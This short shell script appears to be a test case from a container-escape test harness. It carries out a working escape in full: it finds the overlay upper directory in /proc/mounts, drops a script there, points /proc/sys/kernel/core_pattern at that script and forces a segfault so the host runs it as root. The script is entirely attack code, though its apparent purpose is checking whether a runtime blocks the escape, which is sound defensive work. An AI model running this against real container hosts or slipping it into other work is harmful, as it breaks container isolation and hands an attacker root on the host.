#!/bin/sh
. /opt/case/case.sh

h=$(sed -n 's/.*upperdir=\([^, ]*\).*/\1/p' /proc/mounts | head -n 1); test -n "$h"
printf '#!/bin/sh\nid >%s/owned\n' "$h" >/shell.sh; chmod 755 /shell.sh
(echo "|$h/shell.sh %p" >/proc/sys/kernel/core_pattern) 2>/dev/null || true
sh -c 'ulimit -c unlimited; kill -SEGV $$' || true
took_place
